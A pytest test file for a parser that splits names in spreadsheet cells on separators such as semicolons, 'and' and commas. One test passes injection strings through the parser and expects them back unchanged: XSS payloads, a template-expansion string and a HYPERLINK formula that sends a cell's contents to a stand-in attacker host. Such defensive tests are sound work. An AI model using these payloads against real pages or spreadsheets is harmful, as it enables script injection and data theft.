import pytest
from hypothesis import given
from hypothesis import strategies as st

from geo.people_cells import names_in, read_names


def one(cell, *others):
    return read_names([cell, *others]).cells[0]


@pytest.mark.parametrize(
    ("cell", "names"),
    [
        ("", ()),
        ("   ", ()),
        ("Ann", ("Ann",)),
        ("  Ann   Lee ", ("Ann Lee",)),
        ("Ann; Bob", ("Ann", "Bob")),
        ("Ann;Bob;", ("Ann", "Bob")),
        ("Ann|Bob", ("Ann", "Bob")),
        ("Ann\nBob", ("Ann", "Bob")),
        ("Ann / Bob", ("Ann", "Bob")),
        ("Ann and Bob", ("Ann", "Bob")),
        ("Ann & Bob", ("Ann", "Bob")),
        ("Ana y Benito", ("Ana", "Benito")),
        ("Ann, Bob and Cy", ("Ann", "Bob", "Cy")),
        ("Ann, Bob, and Cy", ("Ann", "Bob", "Cy")),
        ("Ann Lee, Bob Ray", ("Ann Lee", "Bob Ray")),
        ("Ann; Ann", ("Ann",)),
        ("Anderson and Sons", ("Anderson and Sons",)),
        ("Johnson & Johnson", ("Johnson & Johnson",)),
        ("the driver and two others", ("the driver and two others",)),
        ("Smith, John", ("Smith, John",)),
        ("Smith; John, Jr.", ("Smith", "John, Jr.")),
        ("+34 600 123 456", ("+34 600 123 456",)),
    ],
)
def test_the_names_of_a_cell(cell, names):
    assert one(cell) == names


@pytest.mark.parametrize(
    "cell",
    [
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "&lt;b&gt;",
        "{{ range(10**8)|list }}",
        '{"first": "Ann; Bob", "last": "Lee"}',
        '[x](https://evil.test "y")',
        "$\\sum x$",
        '=HYPERLINK("http://evil.test/?"&A1,"ok")',
        "'-alert(1)-'",
        "---",
    ],
)
def test_markup_and_formulas_are_one_name_as_they_stand(cell):
    assert one(cell) == (cell,)


def test_a_table_in_a_cell_is_not_taken_apart():
    assert one("| a | b |\n|-|-|") == ("| a | b | |-|-|",)


def test_a_comma_belongs_to_the_name_where_every_cell_is_a_surname_and_a_first_name():
    names = read_names(["Smith, John", "Lee, Ann", "Smith, John"], "person")
    assert names.cells == [("Smith, John",), ("Lee, Ann",), ("Smith, John",)]
    assert names.notice == "A comma in 'person' was read as part of one name, as in 'Smith, John'."


@pytest.mark.parametrize("other", ["Bob", "Ann", "Bob, Ann", "Cy, Di, Ed"])
def test_a_comma_separates_people_where_another_cell_tells_so(other):
    assert one("Ann, Bob", other) == ("Ann", "Bob")


def test_a_firm_that_occurs_again_is_not_split():
    names = read_names(["Smith & Wesson", "Smith & Wesson", "Ann"])
    assert names.cells[0] == ("Smith & Wesson",)
    assert names.notice == "'Smith & Wesson' was kept as one name."


def test_people_joined_are_split_where_one_of_them_is_met_alone():
    assert read_names(["Neil and Chris", "Neil and Chris", "Neil"]).cells[0] == ("Neil", "Chris")


def test_a_split_is_said_with_its_column():
    said = read_names(["Ann; Bob", "Ann and Cy"], "quién").notice
    assert said == "Cells of 'quién' that hold several names were split at ';' and 'and'."


def test_nothing_is_said_of_plain_names():
    assert read_names(["Ann", "", "Bob"]).notice == ""


def test_only_the_separators_asked_for_split():
    assert names_in("Ann, Bob; Cy and Di", [";"]) == ("Ann, Bob", "Cy and Di")
    assert names_in("Ann, Bob; Cy and Di") == ("Ann", "Bob", "Cy", "Di")


@given(st.lists(st.text(max_size=30), max_size=8))
def test_no_cell_with_a_sign_in_it_is_without_a_name(cells):
    read = read_names(cells)
    assert len(read.cells) == len(cells)
    assert all(bool(names) == bool(cell.strip()) for cell, names in zip(cells, read.cells, strict=True))


@given(st.lists(st.text("abc ,;&|", max_size=20), max_size=6))
def test_names_read_once_are_read_the_same_again_from_a_list(cells):
    for names in read_names(cells).cells:
        written = "; ".join(names)
        if not any(sign in name for name in names for sign in ",;&|"):
            assert read_names([written]).cells[0] == names
